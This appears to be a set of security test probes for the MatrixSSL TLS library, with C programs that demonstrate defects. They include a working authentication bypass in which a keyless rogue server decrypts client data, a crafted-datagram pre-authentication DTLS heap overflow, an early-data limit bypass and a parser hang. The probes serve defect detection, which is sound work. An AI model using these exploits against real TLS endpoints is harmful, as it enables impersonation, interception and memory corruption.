    if (rc == MATRIXSSL_REQUEST_RECV) { n = gcm_seal(kb + 16, kb + 36, 0, 22, fin, 16, rec); rc = feed(cl, rec, n, "Finished"); }
    while ((len = matrixSslGetOutdata(cl, &out)) > 0) { printf("client -> type %u len %d\n", out[0], len); rc = matrixSslSentData(cl, len); if (rc != MATRIXSSL_REQUEST_SEND) break; }
    printf("PROBE: handshake complete with rogue = %d\n", matrixSslHandshakeIsComplete(cl));
    if (matrixSslHandshakeIsComplete(cl)) { printf("DEFECT: a peer holding no key completed the handshake (keys from an all-zero master secret)\n"); return 1; }
    return 0;
}
