/*
 *  C04 demo: "Handshake completes only if the peer was authenticated".
 *
 *  A MatrixSSL TLS 1.2 client is created the documented way for session
 *  ticket support (a fresh sslSessionId_t and options.ticketResumption = 1),
 *  with a trusted RSA CA, NO certificate callback, and a single
 *  certificate-based suite: TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256.
 *
 *  The peer is a hand-written rogue "server" that owns no certificate and
 *  no private key at all.  It answers the ClientHello with
 *
 *      ServerHello (no extensions)  ChangeCipherSpec  Finished
 *
 *  i.e. it pretends that an abbreviated (ticket-resumed) handshake is
 *  taking place although the client never sent a ticket.  The keys it uses
 *  are derived from an all-zero master secret, which is what a client that
 *  has no session to resume holds in ssl->sec.masterSecret.
 *
 *  Correct behaviour: the client is waiting for Certificate and must answer
 *  the ChangeCipherSpec with a fatal unexpected_message alert.
 *  exit 0 = client refused, exit 1 = handshake completed without any
 *  Certificate / ServerKeyExchange (property violated), exit 2 = harness
 *  problem.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#define SUITE 0xC02F /* TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 */

static void hmac256(const unsigned char *key, unsigned keyLen,
    const unsigned char *a, unsigned aLen,
    const unsigned char *b, unsigned bLen, unsigned char out[32])
{
    psHmacSha256_t ctx;

    psHmacSha256Init(&ctx, key, (psSize_t) keyLen);
    if (aLen)
    {
        psHmacSha256Update(&ctx, a, aLen);
    }
    if (bLen)
    {
        psHmacSha256Update(&ctx, b, bLen);
    }
    psHmacSha256Final(&ctx, out);
}

/* TLS 1.2 PRF, P_SHA256(secret, seed) */
static void p_sha256(const unsigned char *sec, unsigned secLen,
    const unsigned char *seed, unsigned seedLen,
    unsigned char *out, unsigned outLen)
{
    unsigned char a[32], blk[32];
    unsigned n;

    hmac256(sec, secLen, seed, seedLen, NULL, 0, a);    /* A(1) */
    while (outLen > 0)
    {
        hmac256(sec, secLen, a, 32, seed, seedLen, blk);
        n = outLen < 32 ? outLen : 32;
        memcpy(out, blk, n);
        out += n;
        outLen -= n;
        hmac256(sec, secLen, a, 32, NULL, 0, a);        /* A(i+1) */
    }
}

static void gcm_aad(unsigned char aad[13], unsigned seq, int type, unsigned len)
{
    memset(aad, 0, 13);
    aad[7] = (unsigned char) seq;
    aad[8] = (unsigned char) type;
    aad[9] = 3; aad[10] = 3;
    aad[11] = (unsigned char) (len >> 8);
    aad[12] = (unsigned char) len;
}

/* Build one TLS 1.2 AES-128-GCM record. Returns record length. */
static unsigned gcm_seal(const unsigned char key[16], const unsigned char salt[4],
    unsigned seq, int type, const unsigned char *pt, unsigned ptLen,
    unsigned char *rec)
{
    psAesGcm_t ctx;
    unsigned char nonce[16], aad[13], k[32];
    unsigned recLen = 8 + ptLen + 16;

    memset(&ctx, 0, sizeof(ctx));
    memset(k, 0, sizeof(k));
    memcpy(k, key, 16);
    memset(nonce, 0, sizeof(nonce));
    memcpy(nonce, salt, 4);
    memset(nonce + 4, 0, 8);
    nonce[11] = (unsigned char) seq;
    gcm_aad(aad, seq, type, ptLen);
    rec[0] = (unsigned char) type; rec[1] = 3; rec[2] = 3;
    rec[3] = (unsigned char) (recLen >> 8); rec[4] = (unsigned char) recLen;
    memcpy(rec + 5, nonce + 4, 8);
    if (psAesInitGCM(&ctx, k, 16) < 0)
    {
        return 0;
    }
    psAesReadyGCM(&ctx, nonce, aad, 13);
    psAesEncryptGCM(&ctx, pt, rec + 5 + 8, ptLen);
    psAesGetGCMTag(&ctx, 16, rec + 5 + 8 + ptLen);
    psAesClearGCM(&ctx);
    return 5 + recLen;
}

/* Open one TLS 1.2 AES-128-GCM record (rec points at the 5 byte header).
   Returns plaintext length or -1. */
static int gcm_open(const unsigned char key[16], const unsigned char salt[4],
    unsigned seq, const unsigned char *rec, unsigned char *pt)
{
    psAesGcm_t ctx;
    unsigned char nonce[16], aad[13], k[32];
    unsigned len = (rec[3] << 8) | rec[4];
    int ptLen, rc;

    if (len < 8 + 16)
    {
        return -1;
    }
    ptLen = (int) len - 8 - 16;
    memset(&ctx, 0, sizeof(ctx));
    memset(k, 0, sizeof(k));
    memcpy(k, key, 16);
    memset(nonce, 0, sizeof(nonce));
    memcpy(nonce, salt, 4);
    memcpy(nonce + 4, rec + 5, 8);
    gcm_aad(aad, seq, rec[0], (unsigned) ptLen);
    if (psAesInitGCM(&ctx, k, 16) < 0)
    {
        return -1;
    }
    psAesReadyGCM(&ctx, nonce, aad, 13);
    rc = psAesDecryptGCM(&ctx, rec + 5 + 8, len - 8, pt, (uint32_t) ptLen);
    psAesClearGCM(&ctx);
    return rc < 0 ? -1 : ptLen;
}

/* Give 'len' bytes to the client, return the last matrixSslReceivedData rc */
static int32 feed(ssl_t *ssl, const unsigned char *data, unsigned len,
    const char *what)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 avail, rc;

    avail = matrixSslGetReadbuf(ssl, &buf);
    if (avail < (int32) len)
    {
        printf("harness: read buffer too small (%d)\n", (int) avail);
        exit(2);
    }
    memcpy(buf, data, len);
    rc = matrixSslReceivedData(ssl, len, &pt, &ptLen);
    printf("  client <- %-18s matrixSslReceivedData rc=%d", what, (int) rc);
    if (rc == MATRIXSSL_RECEIVED_ALERT && ptLen >= 2)
    {
        printf(" (alert level %u desc %u)", pt[0], pt[1]);
    }
    printf("\n");
    return rc;
}

int main(void)
{
    sslKeys_t *keys = NULL;
    sslSessionId_t *sid = NULL;
    sslSessOpts_t opts;
    ssl_t *cl = NULL;
    psCipher16_t suite = SUITE;
    unsigned char *out;
    unsigned char ch[2048], sh[128], rec[256], tmp[256];
    unsigned char crand[32], srand_[32], seed[128], master[48], kb[40];
    unsigned char thash[32], fin[16];
    const unsigned char *ckey, *skey, *civ, *siv;
    psSha256_t md;
    int32 rc, len;
    unsigned chLen, shLen, n, i, offered = 0;
    int complete = 0, clientFinOk = 0, appOk = 0;

    if (matrixSslOpen() < 0)
    {
        printf("harness: matrixSslOpen failed\n");
        return 2;
    }
    if (matrixSslNewKeys(&keys, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(keys, NULL, 0, NULL, 0,
            RSA2048CA, sizeof(RSA2048CA)) < 0)
    {
        printf("harness: cannot load the trusted CA\n");
        return 2;
    }
    if (matrixSslNewSessionId(&sid, NULL) < 0)
    {
        printf("harness: matrixSslNewSessionId failed\n");
        return 2;
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    opts.ticketResumption = 1;          /* RFC 5077 support switched on */
    rc = matrixSslNewClientSession(&cl, keys, sid, &suite, 1,
            NULL /* no certificate callback */, "localhost", NULL, NULL, &opts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("harness: matrixSslNewClientSession rc=%d\n", (int) rc);
        return 2;
    }

    /* ---- ClientHello ---- */
    len = matrixSslGetOutdata(cl, &out);
    if (len < 5 + 4 + 2 + 32 + 1 || len > (int32) sizeof(ch) || out[0] != 22 ||
        out[5] != 1 || ((out[3] << 8) | out[4]) != len - 5)
    {
        printf("harness: unexpected ClientHello framing (%d)\n", (int) len);
        return 2;
    }
    chLen = (unsigned) len - 5;
    memcpy(ch, out + 5, chLen);             /* handshake message only */
    memcpy(crand, ch + 4 + 2, 32);
    /* was our suite offered, and is the SessionTicket extension empty? */
    n = 4 + 2 + 32;
    n += 1 + ch[n];                         /* session id */
    i = (ch[n] << 8) | ch[n + 1];
    n += 2;
    for (; i >= 2; i -= 2, n += 2)
    {
        if (((ch[n] << 8) | ch[n + 1]) == SUITE)
        {
            offered = 1;
        }
    }
    matrixSslSentData(cl, (uint32) len);
    printf("client -> ClientHello (%u bytes), suite 0x%04X offered: %s\n",
        chLen, SUITE, offered ? "yes" : "no");
    if (!offered)
    {
        return 2;
    }

    /* ---- rogue ServerHello: TLS 1.2, 32 byte session id, no extensions ---- */
    for (i = 0; i < 32; i++)
    {
        srand_[i] = (unsigned char) (0xA0 + i);
    }
    n = 0;
    sh[n++] = 2; sh[n++] = 0; sh[n++] = 0; sh[n++] = 70;
    sh[n++] = 3; sh[n++] = 3;
    memcpy(sh + n, srand_, 32); n += 32;
    sh[n++] = 32;
    memset(sh + n, 0x5A, 32); n += 32;
    sh[n++] = (SUITE >> 8) & 0xFF; sh[n++] = SUITE & 0xFF;
    sh[n++] = 0;
    shLen = n;                              /* 74 */

    /* ---- key material from the all-zero master secret ---- */
    memset(master, 0, sizeof(master));
    memcpy(seed, "key expansion", 13);
    memcpy(seed + 13, srand_, 32);
    memcpy(seed + 45, crand, 32);
    p_sha256(master, 48, seed, 77, kb, 40);
    ckey = kb; skey = kb + 16; civ = kb + 32; siv = kb + 36;

    /* ---- server Finished over ClientHello || ServerHello ---- */
    psSha256PreInit(&md);
    psSha256Init(&md);
    psSha256Update(&md, ch, chLen);
    psSha256Update(&md, sh, shLen);
    psSha256Final(&md, thash);
    memcpy(seed, "server finished", 15);
    memcpy(seed + 15, thash, 32);
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = 12;
    p_sha256(master, 48, seed, 47, fin + 4, 12);

    /* ---- deliver ServerHello, ChangeCipherSpec, Finished ---- */
    rec[0] = 22; rec[1] = 3; rec[2] = 3; rec[3] = 0; rec[4] = (unsigned char) shLen;
    memcpy(rec + 5, sh, shLen);
    rc = feed(cl, rec, 5 + shLen, "ServerHello");
    if (rc != MATRIXSSL_REQUEST_RECV)
    {
        printf("harness: ServerHello was not accepted (rc=%d)\n", (int) rc);
        return 2;
    }
    rec[0] = 20; rec[1] = 3; rec[2] = 3; rec[3] = 0; rec[4] = 1; rec[5] = 1;
    rc = feed(cl, rec, 6, "ChangeCipherSpec");
    if (rc == MATRIXSSL_REQUEST_RECV)
    {
        n = gcm_seal(skey, siv, 0, 22, fin, 16, rec);
        rc = feed(cl, rec, n, "Finished");
    }

    /* ---- what does the client want to send now? ---- */
    n = 0;
    while ((len = matrixSslGetOutdata(cl, &out)) > 0)
    {
        unsigned off = 0;
        while (off + 5 <= (unsigned) len)
        {
            unsigned rl = (out[off + 3] << 8) | out[off + 4];
            printf("client -> record type %u, %u bytes", out[off], rl);
            if (out[off] == 21 && rl == 2)
            {
                printf("  (alert level %u desc %u)", out[off + 5], out[off + 6]);
            }
            if (out[off] == 22 && rl == 8 + 16 + 16)
            {
                /* client Finished, encrypted under the key we predicted? */
                if (gcm_open(ckey, civ, 0, out + off, tmp) == 16 &&
                    tmp[0] == 20 && tmp[3] == 12)
                {
                    clientFinOk = 1;
                    printf("  (client Finished decrypts with the "
                           "zero-master-secret key)");
                }
            }
            printf("\n");
            off += 5 + rl;
        }
        rc = matrixSslSentData(cl, (uint32) len);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            complete = 1;
        }
        if (rc != MATRIXSSL_REQUEST_SEND)
        {
            break;
        }
        if (++n > 4)
        {
            break;
        }
    }
    if (matrixSslHandshakeIsComplete(cl) == PS_TRUE)
    {
        complete = 1;
    }

    if (complete)
    {
        /* the application would now start talking to the rogue peer */
        static const char secret[] = "GET /account?token=s3cr3t";
        if (matrixSslEncodeToOutdata(cl, (unsigned char *) secret,
                (uint32) strlen(secret)) > 0 &&
            (len = matrixSslGetOutdata(cl, &out)) > 5)
        {
            int pl = gcm_open(ckey, civ, 1, out, tmp);
            if (pl == (int) strlen(secret) && memcmp(tmp, secret, pl) == 0)
            {
                appOk = 1;
                printf("rogue peer decrypted application data: \"%.*s\"\n",
                    pl, tmp);
            }
        }
    }

    printf("\nresult: handshake complete=%d, client Finished readable=%d, "
           "app data readable=%d\n", complete, clientFinOk, appOk);
    if (complete)
    {
        printf("VIOLATION (C04): the client completed a TLS 1.2 handshake on "
               "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 with a peer that sent "
               "no Certificate, no ServerKeyExchange and holds no private key: "
               "ServerHello + ChangeCipherSpec + Finished keyed from an "
               "all-zero master secret were accepted as a ticket resumption "
               "although no ticket was ever offered. No chain validation, no "
               "certificate callback, no proof of possession took place.\n");
        return 1;
    }
    printf("OK: the client refused the certificate-less handshake.\n");
    return 0;
}
