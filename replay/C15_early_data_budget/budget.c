#include "harness.h"
#include "matrixssl/matrixssllib.h"
#include "testkeys/PSK/tls13_psk.h"
/* C15 "the only undecryptable records ever tolerated are those a TLS 1.3 server must skip while rejecting early data, up to
   the configured limit".  The server (external PSK: early data never accepted; limit 1024) counts
   rec.len - tag - 1 per skipped record; for a record shorter than 17 bytes that is NEGATIVE, so garbage records of 33 bytes
   (+16) and 1 byte (-16) alternate for ever without reaching the limit. */
static int loadPsk(sslKeys_t *keys)
{
    psTls13SessionParams_t p; memset(&p, 0, sizeof(p)); p.maxEarlyData = 16384; p.cipherId = TLS_AES_128_GCM_SHA256;
    return matrixSslLoadTls13Psk(keys, g_tls13_test_psk_256, sizeof(g_tls13_test_psk_256), g_tls13_test_psk_id_sha256, sizeof(g_tls13_test_psk_id_sha256), &p);
}
int main(void)
{
    hPeer c = {0}, s = {0}; sslSessOpts_t so, co; psCipher16_t cs = TLS_AES_128_GCM_SHA256;
    static unsigned char w[65536]; unsigned char *wb; unsigned char g33[5 + 33], g1[5 + 1];
    int n, i, rc = 0, total = 0, recs = 0;
    h_open();
    if (matrixSslNewKeys(&c.keys, NULL) < 0 || matrixSslNewKeys(&s.keys, NULL) < 0 || loadPsk(c.keys) < 0 || loadPsk(s.keys) < 0) return 2;
    memset(&so, 0, sizeof(so)); so.versionFlag = SSL_FLAGS_TLS_1_3; so.tls13SessionMaxEarlyData = 1024;
    if (matrixSslNewServerSession(&s.ssl, s.keys, NULL, &so) < 0) return 2;
    memset(&co, 0, sizeof(co)); co.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslNewClientSession(&c.ssl, c.keys, NULL, &cs, 1, h_certCbAllowAll, NULL, NULL, NULL, &co) < 0) return 2;
    if (matrixSslGetMaxEarlyData(c.ssl) <= 0) { printf("client cannot send early data\n"); return 2; }
    /* one genuine early-data record so that the ClientHello carries early_data */
    n = matrixSslGetWritebuf(c.ssl, &wb, 16); memset(wb, 'x', 16); matrixSslEncodeWritebuf(c.ssl, 16);
    n = h_drain(&c, w, sizeof(w));
    { int l = 5 + ((w[3] << 8) | w[4]); rc = h_feed(&s, w, l); printf("ClientHello (%d bytes) -> rc=%d\n", l, rc); }
    h_drain(&s, w, sizeof(w));
    memset(g33, 0xAB, sizeof(g33)); g33[0] = 0x17; g33[1] = 3; g33[2] = 3; g33[3] = 0; g33[4] = 33;
    memset(g1, 0xAB, sizeof(g1));   g1[0] = 0x17;  g1[1] = 3;  g1[2] = 3;  g1[3] = 0;  g1[4] = 1;
    for (i = 0; i < 400 && !s.closed; i++)
    {
        rc = h_feed(&s, g33, sizeof(g33)); if (rc < 0 || (s.ssl->flags & SSL_FLAGS_ERROR)) break; total += 33; recs++;
        rc = h_feed(&s, g1, sizeof(g1));   if (rc < 0 || (s.ssl->flags & SSL_FLAGS_ERROR)) break; total += 1; recs++;
    }
    printf("undecryptable records tolerated: %d (%d bytes of garbage), server counter tls13ReceivedEarlyDataLen=%d, limit 1024, last rc=%d, flags&ERROR=%d\n",
        recs, total, (int) s.ssl->tls13ReceivedEarlyDataLen, rc, !!(s.ssl->flags & SSL_FLAGS_ERROR));
    printf("RESULT %s\n", total > 2 * 1024 ? "VIOLATED (garbage far beyond the configured limit is skipped without an alert)" : "ok (connection aborted at the limit)");
    return total > 2 * 1024;
}
