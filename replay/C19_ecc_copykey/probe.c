/* psEccCopyKey with a failing allocation: the SOURCE key must survive (in the TLS stack it is the ephemeral key cached in
 * the shared sslKeys_t), the partially copied destination must not leak.
 * build: see run.sh   exit 0 = ok, 1 = defect */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "crypto/cryptoApi.h"

void *__real_malloc(size_t n);
void __real_free(void *p);
static long live; static int failAt = -1, count;
void *__wrap_malloc(size_t n)
{
    if (failAt >= 0 && count++ == failAt) return NULL;
    live++; return __real_malloc(n);
}
void __wrap_free(void *p) { if (p) live--; __real_free(p); }

int main(void)
{
    psEccKey_t *src = NULL, *dst = NULL;
    const psEccCurve_t *curve;
    int k, bad = 0;
    long base;

    if (psCryptoOpen(PSCRYPTO_CONFIG) < 0) return 2;
    if (getEccParamById(IANA_SECP256R1, &curve) < 0) return 2;
    if (psEccNewKey(NULL, &src, curve) < 0 || psEccGenKey(NULL, src, curve, NULL) < 0) return 2;
    for (k = 0; k < 4; k++)
    {
        int32 rc;
        if (psEccNewKey(NULL, &dst, curve) < 0) return 2;
        base = live;
        count = 0; failAt = k;
        rc = psEccCopyKey(dst, src);
        failAt = -1;
        printf("allocation %d fails: psEccCopyKey = %d, source curve %s, source k.dp %s, blocks held by the destination %ld\n",
            k, rc, src->curve ? "kept" : "WIPED", src->k.dp ? "kept" : "WIPED", live - base);
        if (rc >= 0) { printf("  (no failure injected at this index)\n"); }
        else if (src->curve == NULL || src->k.dp == NULL) bad = 1;
        psEccDeleteKey(&dst);
        if (live != base - 1 && rc < 0) { printf("  leak: %ld block(s) after deleting the destination\n", live - (base - 1)); bad = 1; }
        if (src->curve == NULL) { psEccGenKey(NULL, src, curve, NULL); }
    }
    psEccDeleteKey(&src);
    psCryptoClose();
    printf(bad ? "DEFECT\n" : "OK\n");
    return bad;
}
