#!/bin/sh
# usage: run.sh [tree]   (tree must have been built: make libs)
W=${1:-/repo}
cc -O1 -g -I"$W" -I"$W/core/config" -I"$W/core/include" -I"$W/core/osdep/include" -I"$W/core/include/sfzcl" \
   -o /tmp/ecc_copykey_probe "$(dirname "$0")/probe.c" -Wl,--wrap=malloc -Wl,--wrap=free \
   "$W/crypto/libcrypt_s.a" "$W/core/libcore_s.a" -lpthread && /tmp/ecc_copykey_probe
