/*
 * Side observation probe (UNMODIFIED code): pre-authentication heap overflow
 * in the DTLS handshake reassembly of a server, four datagrams, no keys
 * needed by the attacker.
 *
 * parseSSLHandshake() (sslDecode.c) uses  ssl->fragTotal == 0  as "this is
 * the first fragment, allocate ssl->fragMessage (hsLen bytes) and remember
 * ssl->fragLenStored = hsLen".  The same field fragTotal is ALSO set by the
 * stream-TLS style path a few lines further down ("Support for fragmented
 * handshake messages - non-DTLS"), which DTLS reaches with an unfragmented
 * but truncated message (fragLen == hsLen, fewer body bytes in the record):
 * that path allocates  hsLen + 12  bytes and sets  fragTotal = hsLen + 12.
 * ssl->fragLenStored is never cleared once a fragmented message completed.
 *
 *   A1,A2  ClientHello (no cookie), 60 bytes, sent as two DTLS fragments.
 *          -> reassembled, HelloVerifyRequest sent, fragMessage freed,
 *             fragTotal = 0, but fragLenStored stays 60, fragMsn stays 0.
 *   B      ClientHello msn 1, length 1, fragLen 1, but no body byte.
 *          -> "non-DTLS" path: fragMessage = malloc(13), fragTotal = 13.
 *   C      ClientHello fragment msn 0, length 60, offset 10, fragLen 50.
 *          -> fragTotal != 0: no allocation; hsLen == fragLenStored (60):
 *             accepted; Memcpy(fragMessage + 10, c, 50) into the 13 byte
 *             block: 47 attacker-chosen bytes past the end of the block.
 *
 * Exit 1 when the checking allocator sees the overflow, 0 otherwise.
 */
#include "harness.h"

static uint32_t dtls_hs_record(unsigned char *out, unsigned seq,
    unsigned char hsType, uint32_t hsLen, unsigned msn, uint32_t fragOff,
    uint32_t fragLen, const unsigned char *body, uint32_t bodyLen)
{
    unsigned char *c = out;
    uint32_t recLen = 12 + bodyLen;

    *c++ = SSL_RECORD_TYPE_HANDSHAKE;
    *c++ = 0xfe; *c++ = 0xfd;                   /* DTLS 1.2 */
    *c++ = 0; *c++ = 0;                         /* epoch */
    *c++ = 0; *c++ = 0; *c++ = 0; *c++ = 0;
    *c++ = (unsigned char) (seq >> 8); *c++ = (unsigned char) seq;
    *c++ = (unsigned char) (recLen >> 8); *c++ = (unsigned char) recLen;
    *c++ = hsType;
    *c++ = (unsigned char) (hsLen >> 16);
    *c++ = (unsigned char) (hsLen >> 8);
    *c++ = (unsigned char) hsLen;
    *c++ = (unsigned char) (msn >> 8); *c++ = (unsigned char) msn;
    *c++ = (unsigned char) (fragOff >> 16);
    *c++ = (unsigned char) (fragOff >> 8);
    *c++ = (unsigned char) fragOff;
    *c++ = (unsigned char) (fragLen >> 16);
    *c++ = (unsigned char) (fragLen >> 8);
    *c++ = (unsigned char) fragLen;
    if (bodyLen)
    {
        memcpy(c, body, bodyLen);
        c += bodyLen;
    }
    return (uint32_t) (c - out);
}

static void step(ssl_t *srv, const char *name, const unsigned char *dg,
    uint32_t len)
{
    int32_t rc;

    g_phase = name;
    rc = feed(srv, dg, len);
    fprintf(stderr, "%-52s -> %d, fragMessage=%p fragTotal=%u "
        "fragLenStored=%u\n", name, rc, (void *) srv->fragMessage,
        srv->fragTotal, srv->fragLenStored);
    {
        unsigned char *o; int32_t ol = matrixSslGetOutdata(srv, &o), i;
        if (ol > 0)
        {
            fprintf(stderr, "    server sends %d bytes:", ol);
            for (i = 0; i < ol && i < 32; i++) fprintf(stderr, " %02x", o[i]);
            fprintf(stderr, "\n");
        }
    }
    drain(srv);
    if (chk_verify_all() != 0)
    {
        fprintf(stderr, "heap damaged after datagram: %s\n", name);
    }
}

int main(void)
{
    sslKeys_t *srvKeys = NULL;
    ssl_t *srv = NULL;
    sslSessOpts_t srvOpts;
    psProtocolVersion_t ver[1] = { v_dtls_1_2 };
    unsigned char ch[60], dg[256], evil[50];
    uint32_t n;

    install_watchdogs(20);
    if (matrixSslOpen() < 0 ||
        matrixSslNewKeys(&srvKeys, NULL) < 0 ||
        matrixSslLoadRsaKeys(srvKeys, KEYDIR "/RSA/2048_RSA.pem",
            KEYDIR "/RSA/2048_RSA_KEY.pem", NULL, NULL) < 0)
    {
        fprintf(stderr, "setup failed\n");
        return 2;
    }
    memset(&srvOpts, 0, sizeof(srvOpts));
    (void) ver;
    srvOpts.versionFlag = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    if (matrixSslNewServerSession(&srv, srvKeys, NULL, &srvOpts) < 0)
    {
        fprintf(stderr, "NewServerSession failed\n");
        return 2;
    }

    /* ClientHello body: version, random, empty session id, empty cookie;
       the server answers an empty cookie with HelloVerifyRequest without
       looking at the rest. */
    memset(ch, 0, sizeof(ch));
    ch[0] = 0xfe; ch[1] = 0xfd;
    memset(ch + 2, 0x5a, 32);
    ch[34] = 0;     /* session id length */
    ch[35] = 0;     /* cookie length */

    n = dtls_hs_record(dg, 1, SSL_HS_CLIENT_HELLO, 60, 0, 0, 30, ch, 30);
    step(srv, "A1 ClientHello fragment [0,30) of 60", dg, n);
    n = dtls_hs_record(dg, 2, SSL_HS_CLIENT_HELLO, 60, 0, 30, 30, ch + 30, 30);
    step(srv, "A2 ClientHello fragment [30,60) of 60", dg, n);

    n = dtls_hs_record(dg, 3, SSL_HS_CLIENT_HELLO, 1, 1, 0, 1, NULL, 0);
    step(srv, "B  truncated unfragmented ClientHello (len 1, no body)", dg, n);

    memset(evil, 0x41, sizeof(evil));
    n = dtls_hs_record(dg, 4, SSL_HS_CLIENT_HELLO, 60, 0, 10, 50, evil, 50);
    step(srv, "C  ClientHello fragment [10,60) of 60", dg, n);

    g_phase = "teardown";
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(srvKeys);
    matrixSslClose();
    chk_verify_all();
    if (g_heapErrors)
    {
        fprintf(stderr, "C08 VIOLATED by the unmodified library: "
            "pre-authentication heap overflow (DTLS server)\n");
        return 1;
    }
    printf("OK: no heap damage\n");
    return 0;
}
