/*
 * Side observation probe (UNMODIFIED code): TLS 1.3 handshake record that
 * ends with 1..3 bytes of the next handshake header.
 *
 * RFC 8446 5.1 allows a handshake message (also its 4 byte header) to be
 * split over records.  matrixSslDecodeTls13() parses the messages of a
 * handshake record in a loop
 *
 *      while (p != end) { rc = tls13ParseHandshakeMessage(ssl, &p, end); ... }
 *
 * tls13ParseHandshakeMessage() returns 0 (psParseTlsHandshakeHeader could not
 * read 4 bytes -> "goto exit" with rc == 0) WITHOUT moving p, and the
 * "p_start == p" guard only protects the first message of the record.  A
 * record "<complete message><1..3 bytes>" therefore never leaves the loop.
 *
 * Here: ordinary TLS 1.3 handshake, then the server sends ONE protected
 * record holding a complete NewSessionTicket followed by the first two bytes
 * of a second one.  Exit 1 (watchdog: HANG) when matrixSslReceivedData does
 * not return within 10 s; exit 0 when it returns.
 */
#include "harness.h"

static uint32_t make_nst(unsigned char *out, uint32_t ticketLen,
    unsigned char fill)
{
    uint32_t bodyLen = 4 + 4 + 1 + 1 + 2 + ticketLen + 2;
    unsigned char *c = out;

    *c++ = SSL_HS_NEW_SESSION_TICKET;
    *c++ = (unsigned char) (bodyLen >> 16);
    *c++ = (unsigned char) (bodyLen >> 8);
    *c++ = (unsigned char) bodyLen;
    *c++ = 0; *c++ = 0; *c++ = 0x0e; *c++ = 0x10;
    *c++ = 1; *c++ = 2; *c++ = 3; *c++ = 4;
    *c++ = 1; *c++ = fill;
    *c++ = (unsigned char) (ticketLen >> 8);
    *c++ = (unsigned char) ticketLen;
    memset(c, fill, ticketLen); c += ticketLen;
    *c++ = 0; *c++ = 0;
    return (uint32_t) (c - out);
}

int main(void)
{
    sslKeys_t *srvKeys = NULL, *cliKeys = NULL;
    ssl_t *cli = NULL, *srv = NULL;
    sslSessionId_t *sid = NULL;
    sslSessOpts_t cliOpts, srvOpts;
    psProtocolVersion_t ver[1] = { v_tls_1_3 };
    unsigned char nst[256], pt[512], rec[600];
    uint32_t n, recLen;
    int32_t rc;

    install_watchdogs(10);
    if (matrixSslOpen() < 0 ||
        matrixSslNewKeys(&srvKeys, NULL) < 0 ||
        matrixSslNewKeys(&cliKeys, NULL) < 0 ||
        matrixSslLoadRsaKeys(srvKeys, KEYDIR "/RSA/2048_RSA.pem",
            KEYDIR "/RSA/2048_RSA_KEY.pem", NULL, NULL) < 0 ||
        matrixSslLoadRsaKeys(cliKeys, NULL, NULL, NULL,
            KEYDIR "/RSA/2048_RSA_CA.pem") < 0)
    {
        fprintf(stderr, "setup failed\n");
        return 2;
    }
    memset(&cliOpts, 0, sizeof(cliOpts));
    memset(&srvOpts, 0, sizeof(srvOpts));
    matrixSslSessOptsSetClientTlsVersions(&cliOpts, ver, 1);
    matrixSslSessOptsSetServerTlsVersions(&srvOpts, ver, 1);
    matrixSslNewSessionId(&sid, NULL);
    if (matrixSslNewServerSession(&srv, srvKeys, NULL, &srvOpts) < 0 ||
        matrixSslNewClientSession(&cli, cliKeys, sid, NULL, 0,
            accept_any_cert, NULL, NULL, NULL, &cliOpts) < 0)
    {
        return 2;
    }
    g_phase = "handshake";
    if (run_handshake(cli, srv) < 0)
    {
        return 2;
    }
    drain(cli);
    drain(srv);

    n = make_nst(nst, 32, 0x33);
    memcpy(pt, nst, n);
    pt[n] = SSL_HS_NEW_SESSION_TICKET;  /* header of the next message ... */
    pt[n + 1] = 0;                      /* ... cut after two bytes */
    recLen = tls13_make_record(srv, SSL_RECORD_TYPE_HANDSHAKE, pt, n + 2, rec);

    g_phase = "record = complete NewSessionTicket + 2 bytes of the next header";
    fprintf(stderr, "feeding %u byte record to the client ...\n", recLen);
    rc = feed(cli, rec, recLen);
    fprintf(stderr, "matrixSslReceivedData returned %d\n", rc);

    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(cliKeys);
    matrixSslDeleteKeys(srvKeys);
    matrixSslClose();
    printf("OK: call returned\n");
    return 0;
}
