/*
 * Shared test harness for the C08 demo and the side-observation probes.
 *
 *  - a checking allocator (link with -Wl,--wrap=malloc,--wrap=calloc,
 *    --wrap=realloc,--wrap=free): every block gets a red zone in front and
 *    behind, live blocks are counted, so heap overflows written by the
 *    (uninstrumented) library, double frees and leaks are reported
 *    deterministically;
 *  - an in-memory client/server pair driven through the public buffer API;
 *  - helpers to craft protected TLS 1.3 records with the server's write keys.
 */
#ifndef C08_HARNESS_H
#define C08_HARNESS_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <signal.h>
#include <unistd.h>

#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"

/******************************************************************************/
/* Checking allocator */

#define RZ          512             /* red zone on each side, bytes */
#define RZ_BYTE     0xA5
#define HDR_MAGIC   0x43303848454150ULL
#define DEAD_MAGIC  0x44454144424c4bULL
#define REG_BITS    18
#define REG_SIZE    (1u << REG_BITS)
#define QUARANTINE  8192

typedef struct chk_hdr
{
    uint64_t magic;
    size_t size;
    struct chk_hdr *prev, *next;
    uint64_t serial;
} chk_hdr_t;

extern void *__real_malloc(size_t);
extern void __real_free(void *);

/* Registry of the blocks handed out by the wrapper (user pointers), so that
   a pointer that libc allocated internally is never mistaken for ours. */
static void *g_reg[REG_SIZE];           /* open addressing, tombstone = (void*)1 */
static chk_hdr_t *g_quar[QUARANTINE];
static unsigned g_quarHead;
static chk_hdr_t *g_live;
static size_t g_liveBlocks, g_liveBytes;
static uint64_t g_serial;
static int g_heapErrors;

static unsigned reg_hash(void *p)
{
